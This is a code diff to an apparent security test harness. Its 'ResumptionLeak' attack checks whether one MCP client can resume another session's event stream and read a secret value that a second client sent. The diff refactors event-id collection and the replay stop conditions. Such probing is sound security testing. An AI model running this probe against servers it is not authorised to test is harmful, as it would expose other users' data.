@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import asyncio
-import contextlib
 import uuid
 from typing import Any
 
@@ -106,28 +105,45 @@ class ResumptionLeak(ProtocolAttack[MCPParts]):
             session = {"mcp-session-id": got.headers.get("mcp-session-id", ""), "mcp-protocol-version": LEGACY}
             ready = {"jsonrpc": "2.0", "method": "notifications/initialized"}
             await bob.post(url, json=ready, headers={**BOB, **session})
-            own: list[str] = []
-            for number in IDS:
-                text = (await bob.post(url, json=call(number), headers={**BOB, **session})).text
-                own += [line.partition(":")[2].strip() for line in text.splitlines() if line.startswith("id:")][-1:]
+
+            async def events() -> list[str]:
+                """The last event of the answer to each of bob's calls, refused or not."""
+                texts = [(await bob.post(url, json=call(n), headers={**BOB, **session})).text for n in IDS]
+                found = [[line for line in text.splitlines() if line.startswith("id:")] for text in texts]
+                return [lines[-1].partition(":")[2].strip() for lines in found if lines]
+
+            own = await events()
             async with client(parts, target.url, "alice", mode="legacy") as alice:
                 plain = await tried(alice.call_tool("add", {"a": SECRET, "b": 0}))
-            resuming = (_resumed(bob, url, {**BOB, **session, "last-event-id": last}) for last in own)
+            # Bob's later calls of the same ids end his replays: a replay that has come to them has left nothing out.
+            ends = await events() if own else []
+            resuming = (
+                _resumed(bob, url, {**BOB, **session, "last-event-id": last}, end)
+                for last, end in zip(own, ends, strict=True)
+            )
             seen = await asyncio.gather(*resuming)
         honest = plain.worked and result_of(plain.value) == SECRET
         leaked = any(str(SECRET) in text for text in seen)
         return Outcome(leaked, honest, {"resumed": len(own), "leaked": leaked, "honest": plain.word})
 
 
-async def _resumed(caller: httpx2.AsyncClient, url: str, headers: dict[str, str]) -> str:
-    """What a resumed stream gives within a second."""
+async def _resumed(caller: httpx2.AsyncClient, url: str, headers: dict[str, str], end: str) -> str:
+    """What a resumed stream gives until the secret, the event ``end``, or its own end.
+
+    Raises:
+        NoAnswerError: If none of them comes in time.
+    """
     text = b""
-    with contextlib.suppress(httpx2.HTTPError):
-        async with caller.stream("GET", url, headers=headers, timeout=1.0) as answer:
+
+    async def read() -> None:
+        nonlocal text
+        async with caller.stream("GET", url, headers=headers) as answer:
             async for chunk in answer.aiter_raw():
                 text += chunk
-                if str(SECRET).encode() in text:
+                if any(str(value).encode() in text for value in (SECRET, end)):
                     break
+
+    await tried(read())
     return text.decode(errors="replace")
 
 
